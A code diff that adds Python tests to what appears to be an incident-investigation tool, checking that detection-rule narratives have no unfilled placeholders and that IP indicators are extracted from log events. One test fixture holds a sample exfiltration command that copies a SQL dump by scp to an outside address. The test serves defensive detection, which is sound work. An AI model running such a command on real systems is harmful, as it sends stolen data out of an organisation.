@@ -2,8 +2,12 @@
 
 from datetime import UTC, date, datetime
 
-from stanch.cause.account import chapters, follow, indicators, touched, window
+from stanch.cause import sigma
+from stanch.cause.account import Doings, chapters, follow, indicators, touched, window
 from stanch.cause.actor import Actor
+from stanch.cause.baseline import Unusual
+from stanch.cause.detect import unusual
+from stanch.cause.event import Event
 from stanch.cause.timeline import of_texts
 
 AS_OF = date(2026, 6, 1)
@@ -58,3 +62,24 @@ def test_the_first_sign_in_is_a_chapter_and_tools_are_indicators():
         "A file was taken (AWS CloudTrail): db.sql.",
     ]
     assert ("user_agent", "rclone/1") in {(one.type, one.value) for one in indicators(actor, doings)}
+
+
+AT = datetime(2026, 3, 4, 5, 6, tzinfo=UTC)
+FILLED = {"ip": "203.0.113.9", "user": "ann", "host": "web1", "target": "a.csv"}
+
+
+def test_no_story_of_a_rule_is_left_with_a_gap_in_it():
+    rules = sigma.own_rules()
+    for rule in (*rules.all(), *rules.correlations):
+        for full in (False, True):
+            hit = unusual(Unusual(rule.id, rule.title, (), (), rule.story, (Event(AT, "x", "a.log", 1, {}, **(FILLED if full else {})),)))
+            (told,) = chapters(Actor(hits=[hit], entered=AT), Doings())
+            assert "{" not in told.text, rule.file
+
+
+def test_where_things_were_sent_is_an_indicator_and_an_address_inside_is_none():
+    said = "COMMAND=/usr/bin/scp /tmp/c.sql drop@198.51.100.200:/in/ 10.0.0.7"
+    event = Event(AT, "sshd", "a.log", 1, {"command": said}, user="ann", host="db1")
+    hit = unusual(Unusual("x", "x", ("exfiltration",), (), "x", (event,)))
+    found = [one.value for one in indicators(Actor(hits=[hit], entered=AT, accounts={"ann"}), Doings()) if one.type == "ip"]
+    assert found == ["198.51.100.200"]
